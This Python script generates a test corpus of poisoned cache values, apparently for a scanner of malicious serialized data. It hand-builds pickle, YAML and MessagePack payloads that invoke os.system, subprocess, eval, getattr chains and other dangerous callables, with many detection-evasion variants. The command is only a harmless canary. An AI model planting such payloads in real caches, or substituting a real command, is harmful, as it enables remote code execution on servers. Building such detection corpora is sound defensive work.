#!/usr/bin/python3
"""Write poisoned values: what whoever can write to a cache would put there.

    gen_poisoned.py OUTPUT.jsonl.gz

Each is made after a technique that is published (testdata/danger/README.md has the
sources), by hand, opcode by opcode, where no pickler writes it. One value a line:

    {"technique": text, "serializer": of the cache, "compressor": likewise, "value": stored bytes in Base64,
     "names": one of these is to be found, "runs": whether pickle.loads runs the command}

The command makes a file named cachering-canary where it is run. The same libraries give
the same file, byte for byte. Needs Debian's python3-msgpack, python3-lz4, python3-zstandard.
"""
import base64
import bz2
import gzip
import io
import json
import lzma
import pickle
import pickletools
import struct
import sys
import zlib

import lz4.frame
import msgpack
import zstandard

CANARY = "cachering-canary"
COMMAND = "touch " + CANARY
PYTHON = f"open('{CANARY}', 'w')"

cases = []


def case(technique, value, names, serializer="pickle", compressor="none", runs=False):
    cases.append({"technique": technique, "serializer": serializer, "compressor": compressor,
                  "value": base64.b64encode(value).decode(), "names": names if isinstance(names, list) else [names], "runs": runs})


# Opcodes.
def short(text):
    raw = text.encode()
    return b"\x8c" + bytes([len(raw)]) + raw


def line(text):
    return b"V" + text.encode("raw-unicode-escape") + b"\n"


def name(module, attr):
    return b"c" + module.encode() + b"\n" + attr.encode() + b"\n"


def bytes_of(raw):
    return b"B" + struct.pack("<I", len(raw)) + raw


def text_of(text):
    raw = text.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def proto(n, body):
    return bytes([0x80, n]) + body if n >= 2 else body


def called(callable_, *args):
    return callable_ + b"(" + b"".join(args) + b"tR"


SYSTEM = ["os.system", "posix.system"]


class Reduced:
    def __init__(self, of, *args):
        self.of, self.args = of, args

    def __reduce__(self):
        return self.of, self.args


def poison(n):
    """The plain payload, as the pickler writes it."""
    import os
    return pickle.dumps(Reduced(os.system, COMMAND), n)


def framed(n, body):
    return proto(n, body + b".")


def by_protocol():
    for n in range(6):
        case(f"__reduce__, protocol {n}", poison(n), SYSTEM, runs=True)
        case(f"GLOBAL and REDUCE, protocol {n}", framed(n, called(name("os", "system"), line(COMMAND))), SYSTEM, runs=True)
        case(f"INST, protocol {n}", framed(n, b"(" + line(COMMAND) + b"ios\nsystem\n"), SYSTEM, runs=True)
        case(f"OBJ, protocol {n}", framed(n, b"(" + name("os", "system") + line(COMMAND) + b"o"), SYSTEM, runs=True)
        case(f"optimized, protocol {n}", pickletools.optimize(poison(n)), SYSTEM, runs=True)
        case(f"in a list among innocent values, protocol {n}", pickle.dumps([1, "two", {"three": Reduced(__import__("os").system, COMMAND)}, None], n), SYSTEM, runs=True)
        case(f"dropped, and an innocent value in its place, protocol {n}",
             framed(n, called(name("os", "system"), line(COMMAND)) + b"0" + line("innocent")), SYSTEM, runs=True)
    case("NEWOBJ", framed(2, name("subprocess", "Popen") + b"(](" + line("touch") + line(CANARY) + b"et\x81"), "subprocess.Popen")
    case("NEWOBJ_EX", framed(4, name("subprocess", "Popen") + b"(](" + line("touch") + line(CANARY) + b"et}\x92"), "subprocess.Popen")
    case("BUILD of a class", framed(2, name("shop.models", "Order") + b"}(" + line("__setstate__") + name("os", "system") + b"ub" + line(COMMAND) + b"b"), SYSTEM)


def by_stack_global():
    call = b"(" + line(COMMAND) + b"tR"
    memo = short("os") + b"\x94" + short("system") + b"\x940" + b"0"
    for n in (0, 2, 4, 5):
        case(f"STACK_GLOBAL, protocol {n}", framed(n, short("os") + short("system") + b"\x93" + call), SYSTEM, runs=True)
        case(f"STACK_GLOBAL from the memo, protocol {n}", framed(n, memo + b"h\x00h\x01\x93" + call), SYSTEM, runs=True)
        case(f"STACK_GLOBAL from the memo by numbers out of order, protocol {n}",
             framed(n, line("system") + b"p77\n0" + line("os") + b"r\x05\x01\x00\x000j\x05\x01\x00\x00g77\n\x93" + call), SYSTEM, runs=True)
        case(f"memo overwritten through another spelling of its number, protocol {n}",
             framed(n, line("json") + b"p1\n0" + line("loads") + b"p2\n0" + line("os") + b"p+1\n0" + line("system") + b"p 0_2\n0g1\ng2\n\x93" + call), SYSTEM, runs=True)
        case(f"text with escapes, protocol {n}", framed(n, b"V\\u006f\\u0073\n" + b"V\\u0073ystem\n\x93" + call), SYSTEM, runs=True)
        case(f"byte strings of Python 2, protocol {n}", framed(n, b"S'\\x6fs'\n" + b"U\x06system\x93" + call), SYSTEM, runs=True)
        case(f"with DUP, POP and marks between, protocol {n}",
             framed(n, short("os") + b"20(K\x01K\x021" + short("system") + b"(0N0\x93" + call), SYSTEM, runs=True)
        case(f"a name that a call makes, protocol {n}",
             framed(n, called(name("codecs", "decode"), line("bf"), line("rot13")) + called(name("codecs", "decode"), line("flfgrz"), line("rot13")) + b"\x93" + call), "?", runs=True)
        case(f"a name that is put together, protocol {n}",
             framed(n, short("os") + called(short("builtins") + short("str.join") + b"\x93", line(""), b"](" + line("sys") + line("tem") + b"e") + b"\x93" + call), "?", runs=n >= 4)
    case("a name with full stops, through a module that imports it", framed(4, short("logging") + short("os.system") + b"\x93" + call), "logging.os.system", runs=True)
    case("a module through a module", framed(2, called(name("builtins", "getattr"), name("logging", "os"), line("system")) + call), ["logging.os", "logging.os.system"], runs=True)
    case("special names with full stops", framed(4, short("builtins") + short("object.__subclasses__") + b"\x93)R"), "builtins.object.__subclasses__", runs=False)


def by_getattr():
    get = name("builtins", "getattr")
    old = name("__builtin__", "getattr")
    for n in (0, 2, 4):
        g = old if n < 3 else get
        case(f"getattr chain from an object, protocol {n}",
             framed(n, called(g, called(g, called(g, b")", line("__class__")), line("__base__")), line("__subclasses__")) + b")R"), "?.__class__")
        case(f"getattr of what __import__ gives, protocol {n}",
             framed(n, called(called(g, called(name("builtins", "__import__"), line("os")), line("system")), line(COMMAND))), "builtins.__import__", runs=True)
        case(f"getattr of a class, twice, protocol {n}",
             framed(n, called(g, called(g, name("logging", "Logger"), line("__init__")), line("__globals__"))), "logging.Logger.__init__")
        case(f"getattr with a name that a call makes, protocol {n}",
             framed(n, called(g, name("logging", "Logger"), called(name("codecs", "decode"), line("__tybonyf__"), line("rot13")))), "?")
        case(f"getattr by OBJ, protocol {n}", framed(n, b"(" + g + name("logging", "Logger") + line("__dict__") + b"o"), "logging.Logger.__dict__")
        case(f"getattr by INST, protocol {n}", framed(n, b"(" + name("logging", "Logger") + line("__dict__") + b"i" + g[1:]), "logging.Logger.__dict__")
        case(f"getattr handed on, protocol {n}",
             framed(n, called(name("builtins", "map"), g, b"](" + name("logging", "os") + b"e", b"](" + line("system") + b"e")), ["builtins.getattr", "logging.os"])
    case("attrgetter", framed(2, called(called(name("operator", "attrgetter"), line("system")), name("logging", "os"))), "operator.attrgetter")
    case("methodcaller", framed(2, called(called(name("operator", "methodcaller"), line("system"), line(COMMAND)), name("logging", "os"))), "operator.methodcaller", runs=True)


def by_other_names():
    for module, attr, args, found in (
            ("builtins", "eval", [line(PYTHON)], "builtins.eval"), ("builtins", "exec", [line(PYTHON)], "builtins.exec"),
            ("__builtin__", "eval", [line(PYTHON)], "builtins.eval"), ("builtins", "open", [line(CANARY), line("w")], "builtins.open"),
            ("io", "open", [line(CANARY), line("w")], "io.open"), ("posix", "system", [line(COMMAND)], "posix.system"),
            ("subprocess", "call", [b"](" + line("touch") + line(CANARY) + b"e"], "subprocess.call"),
            ("subprocess", "getoutput", [line(COMMAND)], "subprocess.getoutput"), ("commands", "getoutput", [line(COMMAND)], "subprocess.getoutput"),
            ("pty", "spawn", [b"](" + line("touch") + line(CANARY) + b"e"], "pty.spawn"), ("timeit", "timeit", [line(PYTHON), line("pass"), name("time", "time"), b"K\x01"], "timeit.timeit"),
            ("runpy", "_run_code", [line(PYTHON), b"}"], "runpy._run_code"), ("cProfile", "run", [line(PYTHON)], "cProfile.run"),
            ("code", "InteractiveInterpreter", [], "code.InteractiveInterpreter"), ("bdb", "Bdb", [], "bdb.Bdb"),
            ("pickle", "loads", [bytes_of(poison(4))], "pickle.loads"), ("_pickle", "loads", [bytes_of(poison(2))], "_pickle.loads"),
            ("cPickle", "loads", [bytes_of(poison(2))], "pickle.loads"), ("importlib", "import_module", [line("os")], "importlib.import_module"),
            ("ctypes", "CDLL", [line("libc.so.6")], "ctypes.CDLL"), ("shutil", "rmtree", [line("no such directory"), b"\x88"], "shutil.rmtree"),
            ("webbrowser", "open", [line("about:blank")], "webbrowser.open"), ("pip", "main", [b"]"], "pip.main"),
            ("socket", "create_connection", [b"(" + line("192.0.2.1") + b"K\x01t"], "socket.create_connection"),
            ("urllib.request", "urlopen", [line("http://192.0.2.1/")], "urllib.request.urlopen"), ("marshal", "loads", [bytes_of(b"N")], "marshal.loads"),
            ("types", "FunctionType", [b"N", b"}"], "types.FunctionType"), ("numpy.testing._private.utils", "runstring", [line(PYTHON), b"}"], "numpy.testing._private.utils.runstring"),
            ("torch.hub", "load", [line("x"), line("y")], "torch.hub.load"), ("django.core.management", "call_command", [line("flush")], "django.core.management.call_command"),
            ("multiprocessing.util", "spawnv_passfds", [line("/bin/true"), b"]", b"]"], "multiprocessing.util.spawnv_passfds"),
            ("copyreg", "add_extension", [line("os"), line("system"), b"K\x05"], "copyreg.add_extension"), ("copy_reg", "add_extension", [line("os"), line("system"), b"K\x05"], "copyreg.add_extension"),
            ("asyncio.unix_events", "_UnixSubprocessTransport._start", [], "asyncio.unix_events._UnixSubprocessTransport._start"), ("builtins", "__import__", [line("os")], "builtins.__import__"),
            ("functools", "reduce", [name("operator", "add"), b"]", b"K\x00"], "functools.reduce"), ("linecache", "getlines", [line("/etc/hostname")], "linecache.getlines")):
        runs = attr in ("eval", "exec", "open", "system", "call", "getoutput", "timeit", "_run_code", "run", "loads") and module not in ("marshal", "webbrowser")
        for n in (0, 2, 4):
            if module in ("__builtin__", "commands", "cPickle", "copy_reg") and n > 2:
                continue
            case(f"{module}.{attr}, protocol {n}", framed(n, called(name(module, attr), *args)), found, runs=runs)
    case("partial of a function", framed(2, called(called(name("functools", "partial"), name("os", "system"), line(COMMAND)))), SYSTEM, runs=True)
    for code in (b"\x82\x05", b"\x83\x05\x01", b"\x84\x05\x00\x01\x00"):
        case(f"extension code, {len(code) - 1} bytes", framed(2, code + b"(" + line(COMMAND) + b"tR"), "extension." + str(int.from_bytes(code[1:], "little")))


def by_ends():
    innocent = pickle.dumps({"a": [1, 2, "three"]}, 4)
    for n in range(6):
        case(f"behind STOP, protocol {n}", pickle.dumps([1, 2], n) + poison(n), SYSTEM)
        case(f"behind STOP and other bytes, protocol {n}", pickle.dumps([1, 2], n) + b"\x00\xff padding " + poison(n), SYSTEM)
        case(f"without STOP, protocol {n}", poison(n)[:-1], SYSTEM, runs=n < 4)  # a frame has to be whole
        case(f"a byte that is no opcode behind it, protocol {n}", poison(n)[:-1] + b"\xff\xfe", SYSTEM, runs=True)
        case(f"cut off in an argument behind it, protocol {n}", poison(n)[:-1] + b"X\xff\x00\x00\x00cut", SYSTEM, runs=True)
        case(f"more on the stack than STOP takes, protocol {n}", poison(n)[:-1] + b"NNN.", SYSTEM, runs=True)
        case(f"nothing on the stack for STOP, protocol {n}", poison(n)[:-1] + b"0.", SYSTEM, runs=True)
        case(f"behind damage, protocol {n}", innocent[:-3] + b"\xff" + poison(n), SYSTEM)
    case("a frame that is too short", b"\x80\x04\x95\x02\x00\x00\x00\x00\x00\x00\x00" + called(name("os", "system"), line(COMMAND)) + b".", SYSTEM)
    case("a frame that is too long", b"\x80\x04\x95\xff\x00\x00\x00\x00\x00\x00\x00" + called(name("os", "system"), line(COMMAND)) + b".", SYSTEM)
    case("a decoy that swallows what follows", b"\x80\x04]\x8d\xff\xff\x00\x00\x00\x00\x00\x00" + poison(4), SYSTEM)


def by_nesting():
    for n in range(6):
        inner = poison(n)
        latin = inner.decode("latin-1")
        for outer in range(6):
            if outer < 3:  # bytes are text there
                continue
            case(f"in bytes, protocol {n} in {outer}", pickle.dumps({"data": inner}, outer), SYSTEM)
        case(f"in a bytearray, protocol {n}", pickle.dumps([bytearray(inner)], 5), SYSTEM)
        case(f"in text, protocol {n}", pickle.dumps(latin, 4), SYSTEM)
        case(f"in text, protocol {n} in 0", pickle.dumps({"text": latin}, 0), SYSTEM)
        case(f"in bytes, at protocol 2, protocol {n}", pickle.dumps({"data": inner}, 2), SYSTEM)
        case(f"in bytes behind other bytes, protocol {n}", pickle.dumps(b"!header\x00" + inner + b" trailer", 4), SYSTEM)
        case(f"in bytes in a pickle in bytes, protocol {n}", pickle.dumps({"d": pickle.dumps((1, inner), 4)}, 5), SYSTEM)
        case(f"in Base64, protocol {n}", pickle.dumps(base64.b64encode(inner), 4), SYSTEM)
        case(f"in Base64 for URLs, in text, protocol {n}", pickle.dumps("token=" + base64.urlsafe_b64encode(inner).decode() + "&x=1", 2), SYSTEM)
        case(f"in Base64 in lines, protocol {n}", pickle.dumps(base64.encodebytes(inner * 3), 4), SYSTEM)
        case(f"in hexadecimal digits, protocol {n}", pickle.dumps(inner.hex(), 4), SYSTEM)
        for compressor, pack in COMPRESSORS.items():
            case(f"in {compressor} in bytes, protocol {n}", pickle.dumps([pack(inner)], 4), SYSTEM)
        case(f"in zlib in Base64, as Django's signed sessions have it, protocol {n}",
             pickle.dumps("." + base64.urlsafe_b64encode(zlib.compress(inner)).rstrip(b"=").decode() + ":1tHi5s:signature", 4), SYSTEM)
    deep = poison(4)
    for _ in range(12):
        deep = pickle.dumps(deep, 4)
    case("in twelve pickles, each in the next", deep, "?")


COMPRESSORS = {
    "zlib": zlib.compress, "gzip": lambda b: gzip.compress(b, mtime=0), "bz2": bz2.compress, "lzma": lzma.compress,
    "lz4": lz4.frame.compress, "zstd": zstandard.ZstdCompressor().compress,
}


def by_wrapping():
    for n in range(6):
        inner = poison(n)
        for compressor, pack in COMPRESSORS.items():
            case(f"stored in {compressor}, protocol {n}", pack(inner), SYSTEM, compressor=compressor)
            case(f"stored in {compressor} where the cache has none, protocol {n}", pack(inner), SYSTEM)
        case(f"where Flask-Caching has it, protocol {n}", b"!" + inner, SYSTEM)
        for wrapped, how in ((base64.b64encode(inner).decode(), "Base64"), (inner.decode("latin-1"), "text"), (inner.hex(), "hexadecimal digits")):
            case(f"JSON, in {how}, protocol {n}", json.dumps({"v": [1, wrapped]}).encode(), SYSTEM, serializer="json")
            case(f"JSON without escapes, in {how}, protocol {n}", json.dumps({"v": wrapped}, ensure_ascii=False).encode(), SYSTEM, serializer="json")
            case(f"MessagePack, in {how}, protocol {n}", msgpack.packb({"v": [1, wrapped]}), SYSTEM, serializer="msgpack")
        case(f"JSON where the cache has pickles, protocol {n}", json.dumps([base64.b64encode(inner).decode()]).encode(), SYSTEM)
        case(f"MessagePack, in bytes, protocol {n}", msgpack.packb([{"v": inner}]), SYSTEM, serializer="msgpack")
        case(f"MessagePack, in an extension, protocol {n}", msgpack.packb(msgpack.ExtType(5, inner)), SYSTEM, serializer="msgpack")
        case(f"MessagePack and zlib, protocol {n}", zlib.compress(msgpack.packb([inner])), SYSTEM, serializer="msgpack", compressor="zlib")
        case(f"bytes of the application's own, protocol {n}", b"v1:" + inner, SYSTEM, serializer="dummy")
    for tag in ("!!python/object/apply:os.system", "!!python/object/new:os.system", "!<tag:yaml.org,2002:python/object/apply:os.system>"):
        case(f"YAML, {tag}", f"- 1\n- {tag} ['{COMMAND}']\n".encode(), "os.system", serializer="yaml")
    case("YAML, a name", b"a: !!python/name:subprocess.Popen ''\n", "subprocess.Popen", serializer="yaml")
    case("YAML, a module", b"a: !!python/module:subprocess ''\n", "subprocess.*", serializer="yaml")


def main():
    by_protocol()
    by_stack_global()
    by_getattr()
    by_other_names()
    by_ends()
    by_nesting()
    by_wrapping()
    with open(sys.argv[1], "wb") as out, gzip.GzipFile("", "wb", 9, out, mtime=0) as packed, io.TextIOWrapper(packed, "ascii") as lines:
        for one in cases:
            lines.write(json.dumps(one, separators=(",", ":")) + "\n")
    print(f"{len(cases)} values, {sum(c['runs'] for c in cases)} of which run their command when they are loaded, written to {sys.argv[1]}")


if __name__ == "__main__":
    main()
